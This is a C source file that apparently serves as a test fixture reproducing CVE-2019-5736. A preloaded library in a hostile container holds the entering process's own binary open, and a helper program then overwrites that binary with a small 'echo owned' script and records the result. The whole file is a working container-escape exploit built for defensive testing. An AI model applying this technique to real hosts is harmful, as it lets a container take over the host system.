/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * What a hostile container does to who enters it (CVE-2019-5736). The command
 * that is executed inside is a script whose interpreter is /proc/self/exe: the
 * file of whoever enters, run again, with the libraries of the container.
 *
 * As a shared object, preloaded in the container: holds that file open and
 * becomes /overwrite. As that program: writes it, once nobody runs it any more,
 * and says in /share/result how that went.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define HELD 100

#ifdef PRELOADED

__attribute__((constructor)) static void hold(int argc, char **argv)
{
	if (argc < 1 || strcmp(argv[0], "/proc/self/exe") != 0)
		return;
	dup2(open("/proc/self/exe", O_RDONLY), HELD);
	if (fork() == 0)
		execl("/overwrite", "/overwrite", NULL);
	_exit(0);
}

#else

static void say(const char *result)
{
	FILE *out = fopen("/share/result.new", "w");

	if (out && fprintf(out, "%s\n", result) > 0 && fclose(out) == 0)
		rename("/share/result.new", "/share/result");
}

int main(void)
{
	char path[32];
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", HELD);
	for (int tries = 0; fd < 0 && tries < 300; tries++) {
		fd = open(path, O_WRONLY | O_TRUNC);
		if (fd < 0 && errno != ETXTBSY)
			break;
		usleep(10000);
	}
	if (fd >= 0 && write(fd, "#!/bin/sh\necho owned\n", 21) == 21)
		say("overwritten");
	else
		say(strerror(errno));
	return 0;
}

#endif
